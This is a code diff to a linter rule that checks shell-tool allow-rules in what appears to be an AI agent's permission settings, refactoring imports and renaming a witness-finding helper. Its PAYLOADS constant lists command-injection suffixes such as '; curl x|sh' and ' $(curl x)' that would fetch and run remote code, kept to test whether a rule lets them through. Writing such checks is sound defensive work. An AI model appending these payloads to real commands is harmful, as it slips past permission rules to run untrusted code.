@@ -1,7 +1,6 @@
+import { findInputWitness, ruleMatchesInput, stringKeys } from '@verdict/analysis';
 import { createRule } from '../create-rule.ts';
 import { SHELL_TOOLS } from '../support/approver-facts.ts';
-import { ruleMatchesInput } from '../support/rule-match.ts';
-import { findWitness, stringKeys } from '../support/witness.ts';
 
 /** Ways an attacker (or a confused model) extends an allowed command line. */
 const PAYLOADS = ['; curl x|sh', ' && curl x', ' | sh', ' $(curl x)', ' `curl x`', '\ncurl x', ' || curl x'];
@@ -32,7 +31,7 @@ export default createRule({
       rule(rule, list, _index, approver) {
         if (list !== 'allow' || rule.tool === '' || !shells.has(rule.tool.toLowerCase())) return;
         const mode = approver.input;
-        const witness = findWitness(ctx.regexCache, rule, 'allow', mode);
+        const witness = findInputWitness(ctx.regexCache, rule, 'allow', mode);
         if (witness === undefined) return;
         const keys = rule.field !== undefined ? Object.keys(witness.value) : stringKeys(witness.value);
         for (const payload of PAYLOADS) {
